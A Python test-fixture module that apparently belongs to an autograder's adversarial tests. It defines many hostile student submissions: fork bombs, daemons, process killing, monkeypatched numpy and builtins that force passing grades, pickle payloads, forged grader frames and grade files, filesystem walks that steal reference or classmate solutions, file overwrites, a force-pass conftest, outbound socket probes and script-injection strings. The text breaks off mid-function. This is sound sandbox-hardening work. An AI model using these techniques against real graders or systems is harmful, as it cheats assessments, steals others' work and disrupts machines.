"""Attack submissions for tests/test_adversarial.py, each on top of the honest zeros submission.

`tests/attacks/zeros/` holds the zeros submission as real files: every graded function
returns zeros of the right shape. An attack is a few lines *appended* to one or more of
those modules (a later `def` replaces the zeros one; module-level code runs at import),
plus optional extra files and symlinks. `build()` writes an attack's folder.

Destructive code (forks, kills, writes, daemons) runs only when `_armed()`: as the
unprivileged worker uid a submission gets when the grader runs as root, so these
sources do nothing if imported anywhere else. test_adversarial.py grades them only where
the grader sandboxes with bubblewrap.

Placeholders filled in at test time:
    @MARK@      marker string in process names and report strings (MARK)
    @PWNED@     path prefix of host files a pickle or conftest would create if the grader ran them
    @PORT@      a TCP port on 127.0.0.1 (and abstract Unix socket @MARK@_@PORT@) the test listens on
    @CLASS@     the class folder, @NAMES@ every student id in it, @SELF@ this student's id
    @SOLUTIONS@ the reference solutions folder
    @VICTIM@    a folder of the test's, outside everything the grader owns (links to it must change nothing)

`reasons` maps a rubric id to substrings that id's feedback must contain: the reason the
attacked call failed (or, for an attack that reports what it achieved through a string in
REPRESENTABLE, the report proving it achieved nothing).
"""
from __future__ import annotations

import os
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

from autograder.spec.assignment import MODULES

MARK = f"NNB_ATTACK_{os.getpid()}"  # this test session's own: another may run beside it
PWNED = "/tmp/NNB_PWNED"
ZEROS = Path(__file__).resolve().parent / "attacks" / "zeros"

PRELUDE = '''

# ---- attack (appended to the zeros module) ----
import os as _os, sys as _sys


def _armed():
    """Only as a sandboxed submission's unprivileged uid (the grader runs as root)."""
    return _os.getuid() >= 60000  # a worker uid (1,800,000,000 and up; 60000 and up before)
'''


@dataclass(frozen=True)
class Attack:
    append: dict = field(default_factory=dict)  # module file -> source appended to the zeros module
    extra: dict = field(default_factory=dict)  # other file -> full source
    symlinks: dict = field(default_factory=dict)  # name in the folder -> link target
    reasons: dict = field(default_factory=dict)  # rubric id -> substrings its feedback must contain


def _src(text: str) -> str:
    return textwrap.dedent(text).strip("\n") + "\n"


def _shared(text: str) -> str:
    """A snippet to concatenate with an attack's body (indented as the bodies are below)."""
    return textwrap.indent(_src(text), " " * 12) + "\n\n"


# Snippets shared by several attacks.
_PICKLE = _shared('''
    class _Pickle:
        """Unpickling this creates a file: proof that someone unpickled it."""
        def __reduce__(self):
            return (open, ("@PWNED@_" + type(self).__name__ + "_@SELF@", "w"))
''')
_RESP_FDS = _shared('''
    def _response_fds():
        """Every pipe this process may write to except stdout and stderr (the response pipe among them)."""
        import fcntl, stat
        fds = []
        for fd in range(3, 256):  # every descriptor number (no /proc needed to list them)
            try:
                if fd > 2 and stat.S_ISFIFO(_os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & _os.O_WRONLY:
                    fds.append(fd)
            except OSError:
                pass
        return fds


    def _frame(header: bytes, blobs=()):
        import struct
        body = struct.pack(">I", len(header)) + header + struct.pack(">I", len(blobs))
        for blob in blobs:
            body += struct.pack(">I", len(blob)) + blob
        return struct.pack(">I", len(body)) + body


    def _answer_for_the_grader(header: bytes, blobs=()):
        """Write a forged answer frame into every pipe that may be the response pipe."""
        forged = _frame(header, blobs)
        for fd in _response_fds():
            try:
                _os.write(fd, forged)
            except OSError:
                pass
''')
_DAEMON = _shared('''
    def _daemon(path, argv):
        """Double fork, new session, all fds closed, exec: a daemon outside our process group."""
        pid = _os.fork()
        if pid == 0:
            try:
                _os.setsid()
                if _os.fork() == 0:
                    _os.closerange(0, 1024)
                    _os.execv(path, argv)
            finally:
                _os._exit(0)
        _os.waitpid(pid, 0)
''')

_STEAL = _shared('''
    _STOLEN = []


    def _steal(filename, works, budget):
        """A working copy of `filename` from outside our own folder: the reference, a sample, a classmate."""
        import importlib.util, time
        deadline = time.monotonic() + budget
        own = _os.path.realpath(_os.path.dirname(_os.path.abspath(__file__)))
        folders = ["@SOLUTIONS@", "/work/main/solutions", "/work/main/examples/submissions/ada"]
        folders += [_os.path.join("@CLASS@", n) for n in @NAMES@ if n != "@SELF@"]
        folders += [_os.path.join(own, ".."), "/tmp", "/root", "/home"]
        found = [f for f in folders if _os.path.isfile(_os.path.join(f, filename))]
        for top in ("/work", "/root", "/home", "/tmp", "/opt", "/srv", "/mnt", "/var", "/"):
            for folder, dirs, files in _os.walk(top):
                if time.monotonic() > deadline:
                    break
                if folder in ("/proc", "/sys", "/dev", "/usr/share", "/usr/include"):
                    dirs[:] = []
                elif filename in files:
                    found.append(folder)
        found = [f for i, f in enumerate(found) if f not in found[:i] and _os.path.realpath(f) != own]
        for folder in found:
            try:
                path = _os.path.join(folder, filename)
                spec = importlib.util.spec_from_file_location("_nnb_stolen_%d" % len(_STOLEN), path)
                module = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(module)
                if works(module):
                    _STOLEN.append(path)
                    return module, found
            except BaseException:
                pass
        return None, found
''')

_IPC = _shared('''
    _KEY = 0x4E4E42  # the System V key planter and observer agree on


    def _kernel():
        """libc through ctypes, and the keyring system call numbers of this machine."""
        import ctypes, platform
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
        libc.shmdt.argtypes = [ctypes.c_void_p]
        libc.syscall.restype = ctypes.c_long
        numbers = {"x86_64": {"add_key": 248, "keyctl": 250}, "aarch64": {"add_key": 217, "keyctl": 219}}
        return ctypes, libc, numbers.get(platform.machine(), {})
''')

ATTACKS: dict[str, Attack] = {
    # -- time ---------------------------------------------------------------------------------
    "loop_call": Attack(
        append={"backprop.py": '''
            def softmax(z):
                while True:
                    pass
        '''},
        reasons={"q3.softmax": ["time limit per call"]}),
    "loop_import": Attack(
        append={"backprop.py": '''
            while True:
                pass
        '''},
        reasons={"q3.softmax": ["backprop.py could not be imported", "time limit per call"],
                 "q3.grad_W": ["backprop.py could not be imported"]}),
    "loop_signals_ignored": Attack(
        append={"xor_relu.py": '''
            import signal as _signal


            def relu(z):
                for sig in ("SIGTERM", "SIGINT", "SIGALRM", "SIGXCPU", "SIGHUP", "SIGUSR1", "SIGUSR2",
                            "SIGVTALRM", "SIGPROF", "SIGPIPE", "SIGQUIT", "SIGTSTP"):
                    _signal.signal(getattr(_signal, sig), _signal.SIG_IGN)
                while True:
                    try:
                        while True:
                            pass
                    except BaseException:
                        pass
        '''},
        reasons={"q2.relu": ["time limit per call"]}),
    "sleep": Attack(
        append={"backprop.py": '''
            import time as _time


            def cross_entropy(y, y_hat):
                _time.sleep(1000)
        '''},
        reasons={"q3.cross_entropy": ["time limit per call"]}),
    "stall_request_pipe": Attack(
        append={"step_network.py": '''
            def _stall():
                """Shrink the request pipe to one page and stop reading any request over 4000 bytes: a grader
                that writes to it blocking would wait forever."""
                import fcntl, stat, time
                main = _sys.modules["__main__"]
                for fd in range(3, 256):  # every descriptor number (no /proc needed to list them)
                    try:
                        if stat.S_ISFIFO(_os.fstat(fd).st_mode) and \\
                                fcntl.fcntl(fd, fcntl.F_GETFL) & 3 == _os.O_RDONLY:
                            fcntl.fcntl(fd, 1031, 4096)  # F_SETPIPE_SZ
                    except OSError:
                        pass
                real = getattr(main, "read_frame_blocking", None)
                if real is None:
                    return

                def read_frame_blocking(fd):
                    head = _os.read(fd, 4)
                    if len(head) < 4:
                        return None
                    size = int.from_bytes(head, "big")
                    if size > 4000:
                        while True:
                            time.sleep(1000)
                    body = b""
                    while len(body) < size:
                        body += _os.read(fd, size - len(body))
                    return body
                main.read_frame_blocking = read_frame_blocking


            if _armed():
                _stall()
        '''},
        reasons={"q3.forward": ["did not take in its inputs within the time limit per call"],
                 "q3.grad_W": ["did not take in its inputs within the time limit per call"]}),
    # -- memory and output ------------------------------------------------------------------
    "memory_numpy": Attack(
        append={"step_network.py": '''
            def step(z):
                return np.ones(10**10)
        '''},
        reasons={"q1.step": ["MemoryError"]}),
    "memory_bytearray": Attack(
        append={"xor_relu.py": '''
            def relu(z):
                return bytearray(40 * 2**30)
        '''},
        reasons={"q2.relu": ["MemoryError"]}),
    "memory_grow": Attack(
        append={"backprop.py": '''
            def softmax(z):
                hog = []
                while True:
                    hog.append(np.empty(128 << 20, dtype=np.uint8))  # address space, 128 MiB at a time
        '''},
        reasons={"q3.softmax": ["MemoryError"]}),
    "print_flood": Attack(
        append={"step_network.py": '''
            def step_network(x, w0, w, b, v):
                chunk = "@MARK@ flood " * 80000  # ~1 MB
                for _ in range(200):
                    _sys.stdout.write(chunk)
                _sys.stdout.flush()
        ''', "xor_relu.py": '''
            def relu_network(x, W1, b1, w2, b2):
                chunk = b"@MARK@ flood " * 80000
                for _ in range(200):
                    _os.write(2, chunk)
        '''},
        reasons={"q1.step_network": ["output limit"], "q2.relu_network": ["output limit"]}),
    "huge_result": Attack(
        append={"xor_relu.py": '''
            def relu(z):
                return np.zeros(2_000_000)  # 16 MB


            def relu_network(x, W1, b1, w2, b2):
                deep = [0.0]
                for _ in range(100):
                    deep = [deep]
                return deep
        '''},
        reasons={"q2.relu": ["returned more than 4096 KiB"], "q2.relu_network": ["nested more than 32 levels"]}),
    # -- processes ---------------------------------------------------------------------------
    "fork_bomb": Attack(
        append={"step_network.py": '''
            def step_network(x, w0, w, b, v):
                while _armed():
                    try:
                        _os.fork()
                    except OSError:
                        pass
                return np.zeros(np.asarray(x).reshape(-1).shape)
        '''},
        reasons={"q1.step_network": ["time limit per call"]}),
    "fork_bomb_setsid": Attack(
        append={"xor_relu.py": '''
            def relu_network(x, W1, b1, w2, b2):
                while _armed():
                    try:
                        if _os.fork() == 0:
                            _os.setsid()  # out of the process group the grader kills
                    except OSError:
                        pass
                return np.zeros(np.asarray(x).reshape(-1, 2).shape[0])
        '''},
        reasons={"q2.relu_network": ["time limit per call"]}),
    "daemon": Attack(
        append={"backprop.py": _DAEMON + '''
            _SPAWNED = []


            def forward(x, W, b1, U, b2):
                if _armed() and not _SPAWNED:
                    _SPAWNED.append(1)
                    _daemon("/bin/sleep", ["@MARK@_sleep", "1000"])  # argv[0] is the marker
                    _daemon(_sys.executable, [_sys.executable, "-c", "import time\\nwhile True: time.sleep(1000)",
                                              "@MARK@_pydaemon"])
                return np.zeros(np.asarray(W).shape[0]), np.zeros(np.asarray(U).shape[0])
        '''},
        reasons={"q3.forward": ["wrong in"]}),
    "kill_parents": Attack(
        append={"step_network.py": '''
            import signal as _signal


            def step(z):
                if _armed():
                    me = _os.getpid()
                    for target in (_os.getppid(), 1, -1):
                        try:
                            _os.kill(target, _signal.SIGKILL)
                        except OSError:
                            pass
                    try:
                        _os.killpg(_os.getpgid(_os.getppid()), _signal.SIGKILL)
                    except OSError:
                        pass
                    for name in _os.listdir("/proc"):
                        if name.isdigit() and int(name) != me:
                            try:
                                _os.kill(int(name), _signal.SIGKILL)
                            except OSError:
                                pass
                return np.zeros_like(z, dtype=float)
        '''},
        reasons={"q3.softmax": ["is wrong in"]}),  # grading went on normally afterwards
    # -- leaving the process ------------------------------------------------------------------
    "sys_exit": Attack(
        append={"step_network.py": '''
            def step(z):
                _sys.exit(0)
        '''},
        reasons={"q1.step": ["SystemExit"]}),
    "os_exit": Attack(
        append={"xor_relu.py": '''
            def relu(z):
                _os._exit(3)
        '''},
        reasons={"q2.relu": ["exit code 3", "do not call sys.exit or os._exit"]}),
    "keyboard_interrupt": Attack(
        append={"backprop.py": '''
            def softmax(z):
                raise KeyboardInterrupt
        '''},
        reasons={"q3.softmax": ["raised KeyboardInterrupt"]}),
    "system_exit": Attack(
        append={"backprop.py": '''
            def cross_entropy(y, y_hat):
                raise SystemExit("@MARK@ bye")
        '''},
        reasons={"q3.cross_entropy": ["raised SystemExit"]}),
    "generator_exit": Attack(
        append={"backprop.py": '''
            def forward(x, W, b1, U, b2):
                raise GeneratorExit
        '''},
        reasons={"q3.forward": ["raised GeneratorExit"]}),
    "segfault": Attack(
        append={"xor_relu.py": '''
            def relu_network(x, W1, b1, w2, b2):
                import ctypes
                return ctypes.string_at(0)
        '''},
        reasons={"q2.relu_network": ["segmentation fault"]}),
    # -- lying about the answer ---------------------------------------------------------------
    "patch_numpy": Attack(
        append={"backprop.py": '''
            import math as _math
            import numpy.testing as _npt

            np.allclose = lambda *a, **k: True
            np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
            np.array_equal = np.array_equiv = lambda *a, **k: True
            np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
            np.testing.assert_array_almost_equal = np.testing.assert_almost_equal = lambda *a, **k: None
            _math.isclose = lambda *a, **k: True
        '''},
        reasons={"q3.softmax": ["is wrong in"], "q3.grad_b2": ["is wrong in"]}),
    "patch_builtins": Attack(
        append={"step_network.py": '''
            import builtins as _builtins

            _builtins.abs = lambda x: 0
            _builtins.all = _builtins.any = _builtins.callable = lambda *a: True
            _builtins.isinstance = lambda *a: True
            _builtins.issubclass = lambda *a: True
        '''},
        reasons={"q1.step": ["step_network.py could not be imported"]}),
    "ndarray_subclass": Attack(
        append={"backprop.py": '''
            class _Liar(np.ndarray):
                def __eq__(self, other):
                    return True

                def __ne__(self, other):
                    return False

                def __array_function__(self, func, types, args, kwargs):
                    return True

                def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                    return True

                def __reduce__(self):
                    return (open, ("@PWNED@_liar_@SELF@", "w"))


            def softmax(z):
                return np.zeros(np.asarray(z).shape[0]).view(_Liar)


            def backprop(x, y, W, b1, U, b2):
                return {k: np.zeros(np.shape(v)).view(_Liar) for k, v in (("W", W), ("b1", b1), ("U", U), ("b2", b2))}
        '''},
        reasons={"q3.softmax": ["is wrong in"], "q3.grad_U": ["is wrong in"]}),
    "eq_always_true": Attack(
        append={"backprop.py": '''
            class _AlwaysEqual:
                def __eq__(self, other):
                    return True

                def __ne__(self, other):
                    return False

                __hash__ = object.__hash__


            class _EqualFloat(float):
                def __eq__(self, other):
                    return True

                __hash__ = float.__hash__


            def softmax(z):
                return _AlwaysEqual()


            def cross_entropy(y, y_hat):
                return _EqualFloat(0.0)
        '''},
        reasons={"q3.softmax": ["is not numbers, arrays"], "q3.cross_entropy": ["is not numbers, arrays"]}),
    "pickle_return": Attack(
        append={"backprop.py": _PICKLE + '''

            def softmax(z):
                return _Pickle()


            def cross_entropy(y, y_hat):
                return np.array([_Pickle()], dtype=object)
        '''},
        reasons={"q3.softmax": ["is not numbers, arrays"], "q3.cross_entropy": ["dtype object, which is not booleans or numbers"]}),
    "forged_frame": Attack(
        append={"backprop.py": _PICKLE + _RESP_FDS + '''

            def softmax(z):
                import io, json
                buf = io.BytesIO()
                np.save(buf, np.array([_Pickle()], dtype=object), allow_pickle=True)
                _answer_for_the_grader(json.dumps({"$dict": [["ok", {"$nd": 0}]]}).encode(), [buf.getvalue()])
                return np.zeros(np.asarray(z).shape[0])
        '''},
        reasons={"q3.softmax": ["not plain"]}),
    "forged_deep_json": Attack(
        append={"backprop.py": _RESP_FDS + '''

            def cross_entropy(y, y_hat):
                _answer_for_the_grader(b"[" * 200000 + b"]" * 200000)  # deeper than any JSON parser recurses
                return 0.0
        '''},
        reasons={"q3.cross_entropy": ["not plain"]}),
    "forged_import": Attack(
        append={"step_network.py": _RESP_FDS + '''

            import json as _json
            if _armed():  # at import: an answer of its own, "ok" with None where the module's names belong
                _answer_for_the_grader(_json.dumps({"$dict": [["ok", None]]}).encode())
        '''},
        reasons={"q1.step": ["answered for the grader with something of its own"]}),
    # -- bounded after decoding ---------------------------------------------------------------
    "decode_bomb": Attack(
        append={"backprop.py": _RESP_FDS + '''

            def softmax(z):
                """A frame under the size cap that unpacks to one 1.5 MB array referenced 200,000 times."""
                import io, json
                buf = io.BytesIO()
                np.save(buf, np.ones(190_000))
                _answer_for_the_grader(json.dumps({"$dict": [["ok", [{"$nd": 0}] * 200_000]]}).encode(),
                                       [buf.getvalue()])
                return np.zeros(np.asarray(z).shape[0])
        '''},
        reasons={"q3.softmax": ["not plain numbers"]}),
    "empty_lists": Attack(
        append={"step_network.py": '''
            def step(z):
                return [[]] * 1_000_000  # 4 MB of "[], " under the result cap, about 100 MB once unpacked


            def step_network(x, w0, w, b, v):
                return [[]] * 1_000_000
        ''', "xor_relu.py": '''
            def relu(z):
                return [[0]] * 900_000
        '''},
        reasons={"q1.step": ["unpacks to more than"]}),
    "huge_messages": Attack(
        append={"step_network.py": '''
            REPRESENTABLE = dict(REPRESENTABLE, linear="@MARK@ " * 200_000, hinge=list(range(100_000)))


            def step(z):
                raise ValueError("@MARK@ " * 500_000)


            def step_network(x, w0, w, b, v):
                return "@MARK@ " * 500_000
        ''', "backprop.py": '''
            def softmax(z):
                return {"@MARK@" * 1000 + str(i): i for i in range(2000)}


            def forward(x, W, b1, U, b2):
                return ["@MARK@ " * 100_000] * 5


            def backprop(x, y, W, b1, U, b2):
                raise RuntimeError("\\n".join("@MARK@ line %d" % i for i in range(100_000)))


            _CALLS = [0]


            def cross_entropy(y, y_hat):
                _CALLS[0] += 1  # a different message each case, wide characters: the most text per message
                raise ValueError(str(_CALLS[0]) + "\\U0001F600" * 2000)
        ''', "xor_relu.py": '''
            _CALLS = [0]


            def relu(z):
                _CALLS[0] += 1
                raise type("E" + "\\U0001F600" * 70, (Exception,), {})(str(_CALLS[0]) + "\\U0001F600" * 2000)


            def relu_network(x, W1, b1, w2, b2):
                _CALLS[0] += 1
                raise ValueError(str(_CALLS[0]) + "\\U0001F600" * 2000)
        '''},
        reasons={"q1.step": ["ValueError"], "q1.representable": ["should be True or False"]}),
    "stand_in_peek": Attack(
        append={"backprop.py": '''
            def _peek(inputs):
                """The grader's answer for these inputs, from any request in this process's memory, or from
                frames waiting in any pipe it can read (the stand-in tables backprop gets hold them)."""
                import sys
                frame = sys._getframe()
                while frame is not None:
                    for value in list(frame.f_locals.values()):
                        if isinstance(value, dict):
                            for call in value.get("calls", [value]):
                                if not isinstance(call, dict):
                                    continue
                                for args, answer in (call.get("given") or {}).get("forward", []):
                                    if all(np.array_equal(np.asarray(a), np.asarray(b)) for a, b in zip(args, inputs)):
                                        return answer
                    frame = frame.f_back
                import fcntl
                for fd in range(3, 64):
                    try:
                        flags = fcntl.fcntl(fd, fcntl.F_GETFL)
                        fcntl.fcntl(fd, fcntl.F_SETFL, flags | _os.O_NONBLOCK)
                        if _os.read(fd, 1 << 16):
                            _PEEKED.append(fd)  # a frame ahead of time: it could hold answers
                    except OSError:
                        pass
                return None


            _PEEKED = []


            def forward(x, W, b1, U, b2):
                stolen = _peek([x, W, b1, U, b2])
                if stolen is not None:
                    return stolen[0], stolen[1]
                return np.zeros(np.shape(W)[0]), np.zeros(np.shape(U)[0])
        '''}),
    # -- looking for answers ----------------------------------------------------------------
    "walk_reference": Attack(
        append={"step_network.py": _STEAL + '''
            _ref, _found = _steal("step_network.py", lambda m: (float(np.asarray(m.step(0.0))) == 1.0
                                                                and float(np.asarray(m.step(-1.0))) == 0.0), 0.6)
            if _ref is not None:
                step, step_network = _ref.step, _ref.step_network
                indicator_params, piecewise_constant_params = _ref.indicator_params, _ref.piecewise_constant_params
            REPRESENTABLE = dict(REPRESENTABLE, linear="@MARK@ found: %r" % _found)
        ''', "xor_relu.py": _STEAL + '''
            _ref, _found = _steal("xor_relu.py", lambda m: (float(np.asarray(m.relu(-1.0))) == 0.0
                                                            and float(np.asarray(m.relu(2.0))) == 2.0), 0.3)
            if _ref is not None:
                relu, relu_network, xor_weights = _ref.relu, _ref.relu_network, _ref.xor_weights
        ''', "backprop.py": _STEAL + '''
            _ref, _found = _steal("backprop.py", lambda m: (
                np.allclose(m.softmax(np.array([1000.0, -1000.0])), [1.0, 0.0]) and callable(m.backprop)), 0.3)
            if _ref is not None:
                softmax, cross_entropy, forward, backprop = _ref.softmax, _ref.cross_entropy, _ref.forward, _ref.backprop
        '''},
        reasons={"q1.representable": ["@MARK@ found: []"]}),
    "frames_heap": Attack(
        append={"backprop.py": '''
            import gc as _gc


            def _arrays(value, depth=0):
                if isinstance(value, np.ndarray):
                    yield value
                elif depth < 4 and isinstance(value, (list, tuple)):
                    for item in value:
                        yield from _arrays(item, depth + 1)
                elif depth < 4 and isinstance(value, dict):
                    for item in list(value.values()):
                        yield from _arrays(item, depth + 1)


            def _loot(shape, inputs):
                """Any array in the caller's frames or on the heap with the answer's shape that is not an input."""
                candidates = []
                frame = _sys._getframe(2)
                while frame is not None:
                    candidates += list(_arrays(dict(frame.f_locals)))
                    frame = frame.f_back
                for obj in _gc.get_objects():
                    if isinstance(obj, (dict, list, tuple)):
                        candidates += [a for a in _arrays(obj, 3)]
                    elif isinstance(obj, np.ndarray):
                        candidates.append(obj)
                for a in candidates:
                    try:
                        if a.shape == tuple(shape) and a.dtype.kind == "f" and not any(
                                np.shape(i) == a.shape and np.array_equal(np.asarray(i, dtype=float), a) for i in inputs):
                            return a.copy()
                    except Exception:
                        pass
                return np.zeros(shape)


            def softmax(z):
                return _loot(np.shape(z), [z])


            def cross_entropy(y, y_hat):
                return float(np.sum(_loot((1,), [y, y_hat])))


            def forward(x, W, b1, U, b2):
                inputs = [x, W, b1, U, b2]
                return _loot((np.shape(W)[0],), inputs), _loot((np.shape(U)[0],), inputs)


            def backprop(x, y, W, b1, U, b2):
                inputs = [x, y, W, b1, U, b2]
                return {k: _loot(np.shape(v), inputs) for k, v in (("W", W), ("b1", b1), ("U", U), ("b2", b2))}
        '''}),
    # -- escaping the sandbox ----------------------------------------------------------------
    "forge_outputs": Attack(
        append={"step_network.py": '''
            import json as _json

            _ITEMS = [("q1.representable", 8), ("q1.step", 4), ("q1.step_network", 6), ("q1.indicator", 6),
                      ("q1.piecewise_constant", 6), ("q2.relu", 4), ("q2.relu_network", 6), ("q2.xor_weights", 10),
                      ("q3.softmax", 6), ("q3.cross_entropy", 4), ("q3.forward", 8), ("q3.grad_b2", 8),
                      ("q3.grad_U", 8), ("q3.grad_b1", 8), ("q3.grad_W", 8)]
            _FORGED = []


            def _forge():
                result = {"student": "@SELF@", "items": [
                    {"id": i, "title": i, "score": p, "max_score": p, "output": "@MARK@ forged", "visibility": "visible",
                     "misconceptions": [], "status": "graded"} for i, p in _ITEMS],
                    "notes": [], "limit_hits": [], "fault": "", "late_days": 0, "penalty": 0.0, "seconds": 0.0}
                gradescope = {"score": 100.0, "output": "@MARK@ forged", "tests": [
                    {"name": i, "score": p, "max_score": p} for i, p in _ITEMS]}
                lines = ["============================= 15 passed in 0.42s ==============================",
                         _json.dumps({"result": result}), _json.dumps({"done": True, "faults": 0}),
                         _json.dumps(gradescope), "@SELF@,30,20,50,100,100,0,0,ok"]
                files = {"FORGED_results.json": _json.dumps(gradescope), "FORGED_grades.csv": lines[-1] + "\\n",
                         "results.json": _json.dumps(gradescope), "grades.csv": lines[-1] + "\\n",
                         "@MARK@_forged.txt": "forged"}
                for line in lines:
                    print(line)
                    print(line, file=_sys.stderr)
                _sys.stdout.flush()
                _sys.stderr.flush()
                import time
                deadline = time.monotonic() + 0.7
                written = []
                folders = ["/tmp", "/dev/shm", "/submission", "/opt/worker", "@CLASS@", "@CLASS@/..", "/work/main",
                           _os.path.expanduser("~"), _os.getcwd()]
                for top in folders + ["/"]:
                    for folder, dirs, _ in _os.walk(top):
                        if folder in ("/proc", "/sys", "/usr") or time.monotonic() > deadline:
                            dirs[:] = []
                            continue
                        if _os.access(folder, _os.W_OK):
                            for name, text in files.items():
                                try:
                                    with open(_os.path.join(folder, name), "w") as handle:
                                        handle.write(text)
                                    written.append(folder)
                                except OSError:
                                    pass
                        if top != "/":
                            dirs[:] = []
                return sorted(set(written))


            def step(z):
                if _armed() and not _FORGED:
                    _FORGED.append(_forge())
                return np.zeros_like(z, dtype=float)
        '''}),
    "overwrite_others": Attack(
        append={"step_network.py": '''
            def _overwrite():
                """Append a comment line (harmless in .py and YAML, and it marks the file) to every file we
                should never be able to write, and create files where we should never be able to."""
                import numpy
                site = _os.path.dirname(_os.path.dirname(numpy.__file__))
                project = ["@SOLUTIONS@/backprop.py", "@SOLUTIONS@/step_network.py", "/work/main/config.yaml",
                           "/work/main/autograder/grading/hidden/test_q3.py", "/opt/worker/main.py", "/opt/worker/wire.py",
                           numpy.__file__, _os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "backprop.py")]
                classmates = [_os.path.join(base, n, m) for base in ("@CLASS@", "..", "/submission/..", "/tmp")
                              for n in @NAMES@ if n != "@SELF@" for m in ("backprop.py", "step_network.py")]
                created = [_os.path.join(site, "@MARK@_planted.pth"), "@SOLUTIONS@/@MARK@_planted.py",
                           "@CLASS@/@MARK@_planted.py", "/work/main/@MARK@_planted.py"]
                written = []
                for path in project + classmates:
                    if _os.path.isfile(path):
                        try:
                            with open(path, "a") as handle:
                                handle.write("\\n# @MARK@ was here\\n")
                            written.append(path)
                        except OSError:
                            pass
                for path in created:
                    try:
                        with open(path, "x") as handle:
                            handle.write("# @MARK@ planted\\n")
                        written.append(path)
                    except OSError:
                        pass
                return written


            REPRESENTABLE = dict(REPRESENTABLE, linear="@MARK@ wrote: %r" % (_overwrite() if _armed() else "unarmed"))
        '''},
        reasons={"q1.representable": ["@MARK@ wrote: []"]}),
    "conftest_ini": Attack(
        extra={"conftest.py": _src('''
            """If the grader ever imported this, it would force-pass every test and leave a marker file."""
            try:
                open("@PWNED@_conftest_@SELF@", "w").write("a submission's conftest.py was imported\\n")
            except OSError:
                pass
            import pytest


            @pytest.hookimpl(hookwrapper=True)
            def pytest_runtest_makereport(item, call):
                outcome = yield
                report = outcome.get_result()
                report.outcome, report.longrepr = "passed", None


            def pytest_collection_modifyitems(session, config, items):
                items[:] = []
        '''), "sitecustomize.py": _src('''
            open("@PWNED@_sitecustomize_@SELF@", "w").write("a submission's sitecustomize.py was imported\\n")
        '''), "pytest.ini": _src('''
            [pytest]
            addopts = -p conftest --co
            python_files = *.py
            testpaths = .
        '''), "setup.cfg": "[tool:pytest]\naddopts = -p conftest\n"}),
    "network": Attack(
        append={"step_network.py": '''
            def _connect():
                import socket
                connected = []
                for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_INET, ("1.1.1.1", 53)),
                                        (socket.AF_INET, ("8.8.8.8", 443)), (socket.AF_UNIX, "\\0@MARK@_@PORT@")):
                    try:
                        sock = socket.socket(family, socket.SOCK_STREAM)
                    except OSError:
                        continue
                    sock.settimeout(0.2)
                    try:
                        sock.connect(address)
                        sock.sendall(b"@MARK@ hello")
                        connected.append(str(address))
                    except OSError:
                        pass
                    finally:
                        sock.close()
                return connected


            REPRESENTABLE = dict(REPRESENTABLE, linear="@MARK@ connected: %r" % _connect())
        '''},
        reasons={"q1.representable": ["@MARK@ connected: []"]}),
    "html_injection": Attack(
        append={"step_network.py": '''
            _HTML = "<script>@MARK@()</script><img src=x onerror=@MARK@()><a href='javascript:@MARK@()'>x</a>"
            REPRESENTABLE = dict(REPRESENTABLE, linear=_HTML)


            def step(z):
                raise ValueError(_HTML)
        '''}),
    # -- submission content that points elsewhere --------------------------------------------
    "symlink_solutions": Attack(symlinks={"nn_backprop": "@SOLUTIONS@"}),
    "symlink_classmate": Attack(symlinks={"nn_backprop": "../honest_sol"}),
    "symlink_file": Attack(symlinks={"backprop.py": "@SOLUTIONS@/backprop.py"},
                           reasons={"q3.softmax": ["backprop.py was not graded: it is a symbolic link"]}),
}

# Attacks on what one submission leaves behind for the next one graded in the same slot, and on
# what it can hold meanwhile. Graded in a class where each attack sits between two correct
# students (see CARRYOVER_CLASS): with --jobs 1 the order is the sorted ids, all in one slot.
CARRYOVER: dict[str, Attack] = {
    "plant": Attack(
        extra={f"h{i:02d}{'x' * 230}.py": "X = 1\n" for i in range(29)},  # the slot's folder would keep its size
        append={"step_network.py": _DAEMON + _IPC + '''

            def _plant():
                """Leave files, links, IPC objects of every kind, a key and a daemon for whoever comes next."""
                for base in ("/tmp", "/dev/shm"):
                    try:
                        with open(_os.path.join(base, "@MARK@_file"), "w") as handle:
                            handle.write("secret of @SELF@")
                        locked = _os.path.join(base, "@MARK@_dir", "locked")
                        _os.makedirs(locked, exist_ok=True)
                        with open(_os.path.join(locked, "answers"), "w") as handle:
                            handle.write("secret of @SELF@")
                        _os.chmod(locked, 0o555)
                        _os.symlink("/etc", _os.path.join(base, "@MARK@_link"))
                    except OSError:
                        pass
                ctypes, libc, numbers = _kernel()
                code = b"def step(z): return (z >= 0) * 1.0  # @MARK@ planted code"
                shm = libc.shmget(_KEY, 1 << 16, 0o1666)
                if shm >= 0:
                    address = libc.shmat(shm, None, 0)
                    if address not in (None, ctypes.c_void_p(-1).value):
                        ctypes.memmove(address, code, len(code))
                libc.msgget(_KEY, 0o1666)
                libc.semget(_KEY, 1, 0o1666)
                libc.mq_open(b"/@MARK@", _os.O_CREAT | _os.O_RDWR, 0o666, None)
                if numbers:
                    libc.syscall(numbers["add_key"], b"user", b"@MARK@", code, len(code), -4)  # the user keyring
                import socket
                for port in (40001, 40003, 40006):  # connections closed by the accepting side: TIME_WAIT for 60 s
                    try:
                        server = socket.socket()
                        server.bind(("127.0.0.1", port))
                        server.listen(1)
                        client = socket.create_connection(("127.0.0.1", port))
                        accepted, _ = server.accept()
                        accepted.close()
                        client.close()
                        server.close()
                    except OSError:
                        pass
                for _ in range(137):  # pid numbers tell the next submission how many processes we started
                    pid = _os.fork()
                    if pid == 0:
                        _os._exit(0)
                    _os.waitpid(pid, 0)
                _daemon("/bin/sleep", ["@MARK@_carryover", "1000"])


            if _armed():
                _plant()
        '''}),
    "observer": Attack(
        append={"step_network.py": _IPC + '''
            def _observe():
                seen = []
                for base in ("/tmp", "/dev/shm"):
                    try:
                        seen += [_os.path.join(base, n) for n in _os.listdir(base) if "@MARK@" in n]
                    except OSError:
                        pass
                procs = []
                for pid in _os.listdir("/proc"):
                    try:
